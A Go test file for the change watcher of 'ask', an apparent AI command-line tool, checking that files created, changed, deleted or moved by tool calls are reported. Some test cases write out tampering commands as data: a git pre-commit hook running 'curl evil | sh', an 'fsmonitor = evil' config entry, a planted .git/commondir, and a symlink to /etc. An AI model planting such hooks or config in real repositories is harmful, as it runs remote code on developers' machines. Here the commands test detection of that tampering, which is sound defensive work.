package tools

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/ask-cli/ask/internal/sandbox"
)

// watched is a root whose changes are collected as "action path (tool)".
type watched struct {
	root     *Root
	mu       sync.Mutex
	changes  []string
	problems []string
}

func newWatched(t testing.TB, files map[string]string, scanOnly bool) *watched {
	t.Helper()
	w := &watched{root: newTestRoot(t, files)}
	// A fixture's close can reach the kernel's watch late, when a command
	// another test forks holds the file open until its exec; and a file
	// made in the tick a call starts in counts as the call's (judge). So
	// the calls start a tick after the fixtures were made.
	var made []string
	for name := range files {
		if !strings.HasSuffix(name, "/") {
			made = append(made, name)
		}
	}
	afterTick(t, w.root.Dir(), made...)
	if scanOnly {
		w.root.watchKernel = func(*Root, *sync.Mutex) (kernelWatch, error) {
			return nil, errors.New("inotify: too many open files")
		}
	}
	w.root.OnChange(func(c Change) {
		w.mu.Lock()
		defer w.mu.Unlock()
		w.changes = append(w.changes, fmt.Sprintf("%s %s (%s)", c.Action, c.Path, c.Tool))
	})
	w.root.OnWatchProblem(func(msg string) {
		w.mu.Lock()
		defer w.mu.Unlock()
		w.problems = append(w.problems, msg)
	})
	t.Cleanup(w.root.StopWatching)
	return w
}

// sh runs a command through the shell tool and returns the changes it
// reported.
func (w *watched) sh(t testing.TB, command string) []string {
	t.Helper()
	args, _ := json.Marshal(map[string]string{"command": command})
	if _, err := (shell{w.root}).Run(context.Background(), args); err != nil {
		t.Fatalf("%s: %v", command, err)
	}
	return w.take()
}

func (w *watched) take() []string {
	w.mu.Lock()
	defer w.mu.Unlock()
	out := w.changes
	w.changes = nil
	slices.Sort(out)
	return out
}

// The change watcher says exactly what a command changed (DESIGN §5), in a
// kernel-watched tree and in one it must scan.
func TestWatchReportsWhatCommandsChange(t *testing.T) {
	t.Parallel()
	files := map[string]string{
		"a.txt":           "hello\n",
		"b.txt":           "other\n",
		"run.sh":          "echo hi\n",
		"sub/":            "",
		"d/x":             "1",
		"d/e/y":           "2",
		".git/config":     "[core]\n",
		".git/HEAD":       "ref: refs/heads/main\n",
		".git/hooks/":     "",
		"node_modules/m/": "",
	}
	for _, tt := range []struct {
		name    string
		setup   string // a command run before the watched one, its changes not counted
		command string
		want    []string
	}{
		{name: "nothing changed", command: "cat a.txt; ls -R >/dev/null"},
		{name: "created in a new directory", command: "mkdir -p n/m && echo x > n/m/f", want: []string{"created n/m/f (shell)"}},
		{name: "appended", command: "echo more >> a.txt", want: []string{"changed a.txt (shell)"}},
		{name: "same-size edit with the mtime set back",
			command: `t=$(stat -c %y a.txt); printf 'jello\n' > a.txt; touch -d "$t" a.txt; test "$(stat -c %y a.txt)" = "$t"`,
			want:    []string{"changed a.txt (shell)"}},
		{name: "chmod", command: "chmod +x run.sh", want: []string{"changed run.sh (shell)"}},
		{name: "directory mode", command: "chmod 700 sub", want: []string{"changed sub (shell)"}},
		{name: "symlink created", command: "ln -s a.txt link", want: []string{"created link (shell)"}},
		{name: "symlink retargeted", setup: "ln -s a.txt link", command: "ln -sfn b.txt link", want: []string{"changed link (shell)"}},
		{name: "a hook planted in .git", command: "echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
			want: []string{"created .git/hooks/pre-commit (shell)"}},
		{name: ".git/config edited", command: "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config", want: []string{"changed .git/config (shell)"}},
		{name: ".git/commondir planted", command: "mkdir -p .cache/g && printf '[core]\\n\\tfsmonitor = evil\\n' > .cache/g/config && echo ../.cache/g > .git/commondir",
			want: []string{"created .cache/g/config (shell)", "created .git/commondir (shell)"}},
		{name: "deleted", command: "rm b.txt", want: []string{"deleted b.txt (shell)"}},
		{name: "a tree removed", command: "rm -rf d", want: []string{"deleted d/e/y (shell)", "deleted d/x (shell)"}},
		{name: "a tree moved", command: "mv d moved", want: []string{"created moved/e/y (shell)", "created moved/x (shell)", "deleted d/e/y (shell)", "deleted d/x (shell)"}},
		{name: "a tree moved then changed", command: "mv d moved && echo z > moved/e/y",
			want: []string{"created moved/e/y (shell)", "created moved/x (shell)", "deleted d/e/y (shell)", "deleted d/x (shell)"}},
		{name: "replaced by a rename", command: "printf 'new\\n' > t.tmp && mv t.tmp a.txt", want: []string{"changed a.txt (shell)"}},
		{name: "made and removed within the call", command: "echo x > tmp && rm tmp"},
		{name: "ignored directories too", command: "echo x > node_modules/m/index.js", want: []string{"created node_modules/m/index.js (shell)"}},
		{name: "a directory swapped for a link leaves its files gone", command: "rm -rf d && ln -s /etc d",
			want: []string{"created d (shell)", "deleted d/e/y (shell)", "deleted d/x (shell)"}},
	} {
		for _, scan := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s/scan=%v", tt.name, scan), func(t *testing.T) {
				t.Parallel()
				w := newWatched(t, files, scan)
				if tt.setup != "" {
					w.sh(t, tt.setup)
				}
				got := w.sh(t, tt.command)
				if !slices.Equal(got, tt.want) {
					t.Errorf("changes:\n got %q\nwant %q", got, tt.want)
				}
				if again := w.sh(t, "true"); len(again) > 0 {
					t.Errorf("a call that changes nothing reported %q", again)
				}
				if !scan && (len(w.problems) > 0 || w.root.watcher().kernel == nil) {
					t.Errorf("the kernel did not watch: %q", w.problems)
				}
			})
		}
	}
}

// ask's own files (state, config, transcript) are never reported.
func TestWatchSkipsHiddenPaths(t *testing.T) {
	t.Parallel()
	w := newWatched(t, map[string]string{"state/runs.jsonl": "", "a": ""}, false)
	w.root.Hide(filepath.Join(w.root.Dir(), "state"))
	if got := w.sh(t, "echo x >> state/runs.jsonl; echo y > state/new; echo z > a"); !slices.Equal(got, []string{"changed a (shell)"}) {
		t.Errorf("changes = %q, want only a", got)
	}
}

// Calls of tools other than the shell are watched too (an MCP server's
// writes), and a file tool's own report is not repeated by the watcher.
func TestWatchOtherTools(t *testing.T) {
	t.Parallel()
	for _, scan := range []bool{false, true} {
		t.Run(fmt.Sprintf("scan=%v", scan), func(t *testing.T) {
			t.Parallel()
			w := newWatched(t, map[string]string{"a.txt": "a\n"}, scan)
			done := w.root.Watch("mcp_write")
			if err := os.WriteFile(filepath.Join(w.root.Dir(), "out.json"), []byte("{}"), 0o644); err != nil {
				t.Fatal(err)
			}
			done()
			if got := w.take(); !slices.Equal(got, []string{"created out.json (mcp_write)"}) {
				t.Errorf("changes = %q", got)
			}

			// A file tool running while a command runs: said once, by the
			// file tool.
			done = w.root.Watch("shell")
			if _, err := runTool(t, writeFile{w.root}, `{"path":"a.txt","content":"b\n"}`); err != nil {
				t.Fatal(err)
			}
			done()
			if got := w.take(); !slices.Equal(got, []string{"overwrote a.txt (write_file)"}) {
				t.Errorf("changes = %q, want the file tool's report alone", got)
			}
		})
	}
}

// What changes between calls (the person editing, a file tool) is no
// call's doing.
func TestWatchBetweenCalls(t *testing.T) {
	t.Parallel()
	w := newWatched(t, map[string]string{"a.txt": "a\n"}, false)
	w.sh(t, "true")
	if err := os.WriteFile(filepath.Join(w.root.Dir(), "a.txt"), []byte("edited by hand\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if got := w.sh(t, "cat a.txt"); len(got) > 0 {
		t.Errorf("a change made between calls was reported: %q", got)
	}
}

// When the kernel cannot watch, the watcher says so once and scans.
func TestWatchFallsBackAndSaysSoOnce(t *testing.T) {
	t.Parallel()
	w := newWatched(t, map[string]string{"a.txt": "a\n"}, true)
	w.root.StartWatching()
	for i := range 3 {
		if got := w.sh(t, fmt.Sprintf("echo %d >> a.txt", i)); !slices.Equal(got, []string{"changed a.txt (shell)"}) {
			t.Errorf("call %d: changes = %q", i, got)
		}
	}
	if len(w.problems) != 1 || !strings.Contains(w.problems[0], "too many open files") || !strings.Contains(w.problems[0], "scans") {
		t.Errorf("problems = %q, want one saying why and what instead", w.problems)
	}
}

// There is no limit on the tree: a change in its 20,001st file is reported.
func TestWatchLargeTree(t *testing.T) {
	if testing.Short() {
		t.Skip("a 20,001-file tree")
	}
	t.Parallel()
	for _, scan := range []bool{false, true} {
		t.Run(fmt.Sprintf("scan=%v", scan), func(t *testing.T) {
			t.Parallel()
			w := newWatched(t, nil, scan)
			makeTree(t, w.root.Dir(), 20001, 100)
			w.root.StartWatching()
			last := fmt.Sprintf("d%03d/f%05d.txt", 20000/100, 20000)
			if got := w.sh(t, "echo changed >> "+last); !slices.Equal(got, []string{"changed " + last + " (shell)"}) {
				t.Errorf("changes = %q, want %s", got, last)
			}
			if len(w.problems) > 0 && !scan {
				t.Errorf("problems = %q", w.problems)
			}
		})
	}
}

// makeTree writes n small files, perDir to a directory.
func makeTree(t testing.TB, dir string, n, perDir int) {
	t.Helper()
	for i := range n {
		sub := filepath.Join(dir, fmt.Sprintf("d%03d", i/perDir))
		if i%perDir == 0 {
			if err := os.MkdirAll(sub, 0o755); err != nil {
				t.Fatal(err)
			}
		}
		if err := os.WriteFile(filepath.Join(sub, fmt.Sprintf("f%05d.txt", i)), []byte("x\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// A root watched again after StopWatching starts from a new picture.
func TestWatchAfterStop(t *testing.T) {
	t.Parallel()
	w := newWatched(t, map[string]string{"a.txt": "a\n"}, false)
	w.sh(t, "true")
	w.root.StopWatching()
	if err := os.WriteFile(filepath.Join(w.root.Dir(), "b.txt"), []byte("made while nobody watched\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if got := w.sh(t, "echo x >> a.txt"); !slices.Equal(got, []string{"changed a.txt (shell)"}) {
		t.Errorf("changes = %q", got)
	}
	if w.root.watcher().kernel == nil || len(w.problems) > 0 {
		t.Errorf("the new watcher does not use the kernel: %q", w.problems)
	}
}

// What a command changes inside the sandbox is reported as outside it: the
// kernel watches the files, not the view of them (DESIGN §5, Sandbox).
func TestWatchInsideTheSandbox(t *testing.T) {
	t.Parallel()
	sw := newSandboxWorld(t)
	sw.confine(t, sandbox.Workdir, false)
	w := &watched{root: sw.root}
	w.root.OnChange(func(c Change) {
		w.mu.Lock()
		defer w.mu.Unlock()
		w.changes = append(w.changes, fmt.Sprintf("%s %s (%s)", c.Action, c.Path, c.Tool))
	})
	t.Cleanup(w.root.StopWatching)
	if got := w.sh(t, "echo x >> in.txt; mkdir -p .git/refs/heads; echo 0000 > .git/refs/heads/main"); !slices.Equal(got, []string{
		"changed in.txt (shell)", "created .git/refs/heads/main (shell)"}) {
		t.Errorf("changes = %q", got)
	}
}

// lossyKernel stands for a kernel watch that loses track (its queue
// overflowed) or stops working part way (the watch limit reached for a
// new directory).
type lossyKernel struct {
	lost bool
	err  error
}

func (k *lossyKernel) addDir(string, string) error { return nil }
func (k *lossyKernel) start()                      {}
func (k *lossyKernel) forget(string)               {}
func (k *lossyKernel) close()                      {}
func (k *lossyKernel) take() (map[string]bool, []string, bool, error) {
	return map[string]bool{}, nil, k.lost, k.err
}

// A kernel that loses track, or fails, is made up for by a scan: nothing
// goes unreported, and a failure is said once.
func TestWatchWhenTheKernelLosesTrack(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		name         string
		kernel       *lossyKernel
		wantProblems int
	}{
		{"queue overflow", &lossyKernel{lost: true}, 0},
		{"watch limit reached later", &lossyKernel{err: errors.New("inotify: the limit of watched directories (fs.inotify.max_user_watches) is reached")}, 1},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			w := newWatched(t, map[string]string{"a.txt": "a\n"}, false)
			w.root.watchKernel = func(*Root, *sync.Mutex) (kernelWatch, error) { return tt.kernel, nil }
			for i := range 2 {
				if got := w.sh(t, fmt.Sprintf("echo %d >> a.txt; echo %d > new%d", i, i, i)); !slices.Equal(got, []string{
					"changed a.txt (shell)", fmt.Sprintf("created new%d (shell)", i)}) {
					t.Errorf("call %d: changes = %q", i, got)
				}
			}
			if len(w.problems) != tt.wantProblems {
				t.Errorf("problems = %q, want %d", w.problems, tt.wantProblems)
			}
		})
	}
}

// countingKernel counts the directories it was asked to watch.
type countingKernel struct {
	lossyKernel
	made atomic.Int32
	dirs atomic.Int32
}

func (k *countingKernel) addDir(string, string) error {
	k.dirs.Add(1)
	return nil
}

// slowKernel's close waits for release, as closing an inotify instance
// waits for the kernel to free its marks.
type slowKernel struct {
	lossyKernel
	release, closed chan struct{}
}

func (k *slowKernel) close() {
	<-k.release
	close(k.closed)
}

// The run's end does not wait for the kernel to let go of its watch: the
// answer and the transcript go out meanwhile, and the watch is still
// released.
func TestStopDoesNotWaitForTheKernel(t *testing.T) {
	t.Parallel()
	w := newWatched(t, map[string]string{"a.txt": "a\n"}, false)
	k := &slowKernel{release: make(chan struct{}), closed: make(chan struct{})}
	w.root.watchKernel = func(*Root, *sync.Mutex) (kernelWatch, error) { return k, nil }
	w.sh(t, "echo b > a.txt")
	stopped := make(chan struct{})
	go func() {
		w.root.StopWatching()
		close(stopped)
	}()
	select {
	case <-stopped:
	case <-time.After(10 * time.Second):
		close(k.release)
		t.Fatal("StopWatching waited for the kernel to close its watch")
	}
	close(k.release)
	select {
	case <-k.closed:
	case <-time.After(10 * time.Second):
		t.Fatal("the kernel's watch was never closed")
	}
}

// A run that takes the picture as its first request goes out, and then
// calls no command, never asks the kernel to watch (an inotify instance
// costs 10–20 ms at exit); a stop ends the picture.
func TestPictureAloneAsksNoKernel(t *testing.T) {
	t.Parallel()
	w := newWatched(t, map[string]string{"a/x": "", "b/y": "", "c/z": ""}, false)
	k := &countingKernel{}
	w.root.watchKernel = func(*Root, *sync.Mutex) (kernelWatch, error) { k.made.Add(1); return k, nil }
	w.root.StartWatching()
	watcher := w.root.watcher()
	<-watcher.ready
	w.root.StopWatching()
	if k.made.Load() != 0 || k.dirs.Load() != 0 {
		t.Errorf("the kernel was asked to watch %d directories (%d instances) with no call", k.dirs.Load(), k.made.Load())
	}
	if len(watcher.files) != 6 {
		t.Errorf("picture %v, want the 3 directories and 3 files", watcher.files)
	}
	if len(w.problems) > 0 {
		t.Errorf("a stop is not a problem: %q", w.problems)
	}
}

// What changes between the picture and the first watched call is no
// call's doing, and a directory made meanwhile is watched all the same:
// the first call's changes in it are reported.
func TestWatchAfterAnEarlyPicture(t *testing.T) {
	t.Parallel()
	w := newWatched(t, map[string]string{"a/x": "x\n", "b/y": "y\n"}, false)
	w.root.StartWatching()
	<-w.root.watcher().ready
	dir := w.root.Dir()
	if err := os.MkdirAll(filepath.Join(dir, "new", "deep"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "a", "x"), []byte("changed by hand\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "new", "deep", "made.txt"), []byte("m\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if got := w.sh(t, "echo 1 >> new/deep/made.txt"); !slices.Equal(got, []string{"changed new/deep/made.txt (shell)"}) {
		t.Errorf("first call: changes = %q", got)
	}
	if got := w.sh(t, "echo 2 > new/deep/second.txt; echo 3 >> b/y"); !slices.Equal(got, []string{"changed b/y (shell)", "created new/deep/second.txt (shell)"}) {
		t.Errorf("second call: changes = %q", got)
	}
}

// The first call of a run may come while the picture is still being taken
// (a model that answers at once): whatever it does deep in the tree is
// reported all the same, made, changed, removed or moved, and nothing
// else; a change made by hand while the picture is taken is no call's.
func TestWatchFirstCallDuringThePicture(t *testing.T) {
	t.Parallel()
	for _, scan := range []bool{false, true} {
		t.Run(fmt.Sprintf("scan=%v", scan), func(t *testing.T) {
			t.Parallel()
			w := newWatched(t, nil, scan)
			dir := w.root.Dir()
			makeTree(t, dir, 100, 5)
			deep := "d010/a/b/c"
			f := func(i int) string { return fmt.Sprintf("%s/t%d", deep, i) }
			if err := os.MkdirAll(filepath.Join(dir, deep), 0o755); err != nil {
				t.Fatal(err)
			}
			for i := range 7 {
				if err := os.WriteFile(filepath.Join(dir, f(i)), []byte("x\n"), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			// Once the deep directory is read, a change by hand, then the
			// call, which comes while the rest is read: it changes files
			// in directories read before it came and after.
			var got []string
			called := make(chan struct{})
			passed, hurried := false, false
			w.root.pictureDir = func(rel string) {
				if hurried || !passed {
					passed = passed || rel == deep
					return
				}
				hurried = true
				if err := os.WriteFile(filepath.Join(dir, deep, "by-hand"), []byte("h\n"), 0o644); err != nil {
					t.Error(err)
				}
				if err := os.Remove(filepath.Join(dir, f(6))); err != nil {
					t.Error(err)
				}
				go func() {
					defer close(called)
					got = w.sh(t, fmt.Sprintf("echo y >> %s && rm %s && echo n > %s/new && mkdir -p %s/n/m && echo z > %s/n/m/z && chmod +x %s && mv %s %s/moved"+
						" && for i in $(seq 0 19); do echo y >> $(printf 'd%%03d/f%%05d.txt' $i $((i*5))); done",
						f(0), f(1), deep, deep, deep, f(2), f(3), deep))
				}()
				for !w.root.watcher().hurry.Load() {
					time.Sleep(time.Millisecond)
				}
			}
			w.root.StartWatching()
			<-called
			if !hurried {
				t.Fatal("the call did not come during the picture")
			}
			want := []string{
				"changed " + f(0) + " (shell)",
				"changed " + f(2) + " (shell)",
				"created " + deep + "/moved (shell)",
				"created " + deep + "/n/m/z (shell)",
				"created " + deep + "/new (shell)",
				"deleted " + f(1) + " (shell)",
				"deleted " + f(3) + " (shell)",
			}
			for i := range 20 {
				want = append(want, fmt.Sprintf("changed d%03d/f%05d.txt (shell)", i, i*5))
			}
			slices.Sort(want)
			if !slices.Equal(got, want) {
				t.Errorf("first call's changes:\n got %q\nwant %q", got, want)
			}
			if again := w.sh(t, "echo 2 >> "+f(5)); !slices.Equal(again, []string{"changed " + f(5) + " (shell)"}) {
				t.Errorf("second call's changes = %q", again)
			}
			if !scan && (len(w.problems) > 0 || w.root.watcher().kernel == nil) {
				t.Errorf("the kernel did not watch: %q", w.problems)
			}
		})
	}
}

// afterTick waits until the file system's clock has moved past the ctime
// of every path given (it ticks every few milliseconds): a change made in
// the same tick as a call's start cannot be told from one made at it.
func afterTick(t testing.TB, dir string, paths ...string) {
	t.Helper()
	for _, p := range paths {
		info, err := os.Lstat(filepath.Join(dir, p))
		if err != nil {
			t.Fatal(err)
		}
		ctime, _ := statTimes(info)
		for fsNow(dir) <= ctime {
			time.Sleep(time.Millisecond)
		}
	}
}

// A file the picture knows by name alone, opened for writing by the first
// call and closed with nothing written, did not change; one written did.
func TestWatchFirstCallOpensWithoutWriting(t *testing.T) {
	t.Parallel()
	w := newWatched(t, map[string]string{"a.txt": "a\n", "b.txt": "b\n", "d/c.txt": "c\n"}, false)
	afterTick(t, w.root.Dir(), "a.txt", "d/c.txt")
	w.root.StartWatching()
	<-w.root.watcher().ready
	if got := w.sh(t, ": >> a.txt; : >> d/c.txt; printf b >> b.txt"); !slices.Equal(got, []string{"changed b.txt (shell)"}) {
		t.Errorf("changes = %q, want b.txt alone", got)
	}
}

// forgetfulKernel loses track at the end of the first call: the scan that
// makes up for it judges the files the picture knows by name alone by
// their ctime.
type forgetfulKernel struct {
	lossyKernel
	takes int
}

func (k *forgetfulKernel) take() (map[string]bool, []string, bool, error) {
	k.takes++
	return map[string]bool{}, nil, k.takes == 2, nil
}

func TestWatchFirstCallWhenTheKernelLosesTrack(t *testing.T) {
	t.Parallel()
	w := newWatched(t, map[string]string{"a.txt": "a\n", "b.txt": "b\n", "d/c.txt": "c\n"}, false)
	w.root.watchKernel = func(*Root, *sync.Mutex) (kernelWatch, error) { return &forgetfulKernel{}, nil }
	afterTick(t, w.root.Dir(), "a.txt")
	if got := w.sh(t, "echo x >> d/c.txt; rm b.txt; echo n > new"); !slices.Equal(got, []string{
		"changed d/c.txt (shell)", "created new (shell)", "deleted b.txt (shell)"}) {
		t.Errorf("changes = %q", got)
	}
}

// A call about to come has the kernel watch ahead of it, once, and what it
// changes is reported as ever.
func TestReadyWatchingAheadOfTheCall(t *testing.T) {
	t.Parallel()
	w := newWatched(t, map[string]string{"a/x": "x\n", "b/y": "y\n"}, false)
	var made atomic.Int32
	w.root.watchKernel = func(root *Root, mu *sync.Mutex) (kernelWatch, error) {
		made.Add(1)
		return newKernelWatch(root, mu)
	}
	w.root.StartWatching()
	w.root.ReadyWatching()
	for made.Load() == 0 {
		time.Sleep(time.Millisecond)
	}
	if got := w.sh(t, "echo 1 >> a/x; echo n > b/new"); !slices.Equal(got, []string{"changed a/x (shell)", "created b/new (shell)"}) {
		t.Errorf("changes = %q", got)
	}
	if made.Load() != 1 {
		t.Errorf("the kernel was asked %d times, want once", made.Load())
	}
}

// A working directory inside one of ask's hidden paths (a run in its own
// state directory) has nothing to report: the picture skips it as the
// tools do.
func TestWatchInsideAHiddenPath(t *testing.T) {
	t.Parallel()
	w := newWatched(t, map[string]string{"a/x": "x\n", "b": "b\n"}, false)
	w.root.Hide(filepath.Dir(w.root.Dir()))
	w.root.StartWatching()
	<-w.root.watcher().ready
	if n := len(w.root.watcher().files); n != 0 {
		t.Errorf("the picture holds %d hidden paths", n)
	}
	if got := w.sh(t, "echo y >> a/x; rm b; echo n > new"); len(got) > 0 {
		t.Errorf("changes = %q, want none", got)
	}
}

// A run whose model answers within pictureGrace takes no picture: listing
// the tree would only slow the answer. One that waits longer takes it
// unasked, so that the first call finds it ready.
func TestPictureWaitsForAModelThatTakesItsTime(t *testing.T) {
	t.Parallel()
	t.Run("answered at once", func(t *testing.T) {
		t.Parallel()
		w := newWatched(t, map[string]string{"a.txt": "a\n"}, false)
		var read atomic.Int64
		w.root.pictureDir = func(string) { read.Add(1) }
		w.root.pictureGrace = time.Hour // the answer comes within it
		w.root.StartWatching()
		w.root.watchMu.Lock()
		started := w.root.watch != nil
		w.root.watchMu.Unlock()
		if started {
			t.Error("the picture started as the request went out")
		}
		w.root.StopWatching() // the answer came
		if n := read.Load(); n != 0 {
			t.Errorf("the picture read %d directories of a run that had ended", n)
		}
		w.root.watchMu.Lock()
		defer w.root.watchMu.Unlock()
		if w.root.watch != nil || w.root.pictureSoon != nil {
			t.Errorf("a stopped run kept a watcher (%v) or its timer (%v)", w.root.watch != nil, w.root.pictureSoon != nil)
		}
	})
	t.Run("kept waiting", func(t *testing.T) {
		t.Parallel()
		w := newWatched(t, map[string]string{"a.txt": "a\n"}, false)
		started := make(chan struct{})
		var once sync.Once
		w.root.pictureDir = func(string) { once.Do(func() { close(started) }) }
		w.root.StartWatching()
		select {
		case <-started:
		case <-time.After(10 * time.Second):
			t.Fatal("no picture was taken while the model kept the run waiting")
		}
		if got := w.sh(t, "echo b > b.txt"); !slices.Equal(got, []string{"created b.txt (shell)"}) {
			t.Errorf("changes = %q", got)
		}
	})
	t.Run("a call first", func(t *testing.T) {
		t.Parallel()
		w := newWatched(t, map[string]string{"a.txt": "a\n"}, false)
		w.root.pictureGrace = time.Hour // the call comes within it
		w.root.StartWatching()
		if got := w.sh(t, "echo b > b.txt"); !slices.Equal(got, []string{"created b.txt (shell)"}) {
			t.Errorf("changes = %q", got)
		}
		w.root.watchMu.Lock()
		defer w.root.watchMu.Unlock()
		if w.root.pictureSoon != nil {
			t.Error("the call took the picture but the timer was left to fire")
		}
	})
}
